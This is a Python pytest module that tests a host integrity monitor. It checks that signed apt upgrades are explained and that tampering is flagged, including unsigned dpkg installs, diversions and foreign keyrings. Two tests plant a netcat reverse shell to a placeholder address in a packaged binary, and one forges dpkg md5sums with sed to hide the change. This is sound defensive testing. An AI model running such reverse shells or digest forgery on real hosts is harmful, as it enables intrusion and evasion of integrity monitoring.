# SPDX-License-Identifier: GPL-3.0-or-later
"""Upgrades on a real host, by apt from an archive signed by a real key, and what only looks like one."""

from __future__ import annotations

import shutil

import pytest
from support.archive import Archive
from support.watched import Watched

pytestmark = pytest.mark.container
TOOL = "/usr/bin/lab-tool"


def content(word: str) -> dict[str, str]:
    """41 files: a program, a unit, a configuration file, and libraries."""
    files = {TOOL: f"#!/bin/sh\necho {word}\n", "/etc/lab-tool.conf": f"word={word}\n"}
    files["/usr/lib/systemd/system/lab-tool.service"] = f"[Service]\nType=oneshot\nExecStart={TOOL} {word}\n"
    return {**files, **{f"/usr/libexec/lab-tool/{number}": f"#!/bin/sh\necho {word}\n" for number in range(38)}}


@pytest.fixture(scope="module", name="archive")
def _archive(host: Watched, tmp_path_factory: pytest.TempPathFactory) -> Archive:
    if not shutil.which("gpg"):
        pytest.skip("gpg is not installed, so no archive can be signed")
    archive = Archive(host.machine, tmp_path_factory.mktemp("key"))
    archive.build("lab-tool", "1.0-1", content("one"))
    archive.publish()
    host.machine.run(["apt-get", "-qy", "install", "lab-tool"])
    settle(host)
    return archive


def settle(host: Watched) -> None:
    """Every file is old enough that its time stamps are believed, and everything is accepted."""
    host.machine.run(["sleep", "3"])
    host.calm()
    host.tick()
    host.heard()


def test_an_upgrade_by_apt_is_one_explained_line_and_nothing_is_shipped(host: Watched, archive: Archive) -> None:
    archive.build("lab-tool", "1.0-2", content("two"))
    archive.publish()
    archive.upgrade("lab-tool")
    host.tick()
    alerts = [alert for alert in host.last()["alerts"] if alert["state"] != "resolved"]

    assert ["lab-tool:amd64 1.0-1 -> 1.0-2: 42 files as the package says"] == [alert["title"] for alert in alerts]
    assert [("package_upgraded", "info", "package")] == [
        (alert["code"], alert["severity"], alert["explanation"]) for alert in alerts
    ]
    assert [] == host.heard()


def test_what_was_explained_and_changes_again_is_told(host: Watched, archive: Archive) -> None:
    host.machine.write(TOOL, "#!/bin/sh\nnc -e sh 192.0.2.1 4444\n", mode=0o755)
    host.tick()

    assert ("critical", "open", "package_file_differs", TOOL) in host.heard()
    host.machine.run(["apt-get", "-qy", "install", "--reinstall", "lab-tool"])
    settle(host)


def test_dpkg_of_a_package_that_nobody_signed_is_told(host: Watched, archive: Archive) -> None:
    evil = archive.build("lab-tool", "9.9-9", content("evil"), place="/root/evil.deb")
    host.machine.run(["dpkg", "-i", evil])
    host.tick()

    assert [("critical", "open", "package_unsigned", "lab-tool:amd64")] == host.heard()
    settle(host)


def test_a_digest_edited_after_a_program_was_replaced_is_told(host: Watched, archive: Archive) -> None:
    host.machine.write(TOOL, "#!/bin/sh\nnc -e sh 192.0.2.1 4444\n", mode=0o755)
    edit = f'cd /; new=$(md5sum {TOOL[1:]}); sed -i "s,^.*  {TOOL[1:]}\\$,$new," /var/lib/dpkg/info/lab-tool.md5sums'
    host.machine.run(["sh", "-euc", edit])
    host.tick()

    assert ("critical", "open", "package_lists_edited", "lab-tool:amd64") in host.heard()
    settle(host)


def test_a_diversion_by_hand_is_told(host: Watched, archive: Archive) -> None:
    host.machine.run(["dpkg-divert", "--local", "--no-rename", "--add", TOOL])
    host.tick()

    assert ("warning", "open", "package_diversion", f"diversion {TOOL}") in host.heard()
    host.machine.run(["dpkg-divert", "--local", "--no-rename", "--remove", TOOL])
    settle(host)


def test_a_keyring_that_nobody_accepted_vouches_for_nothing(
    host: Watched, archive: Archive, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Root brings an archive of its own, well signed by a key of its own."""
    other = Archive(host.machine, tmp_path_factory.mktemp("other"))
    other.build("lab-tool", "10.0-1", content("evil"))
    other.publish()
    other.upgrade("lab-tool")
    host.tick()
    heard = host.heard()

    assert ("warning", "open", "package_keyring", "keyring /usr/share/keyrings/lab.gpg") in heard
    assert ("warning", "open", "package_upgraded", "lab-tool:amd64") in heard
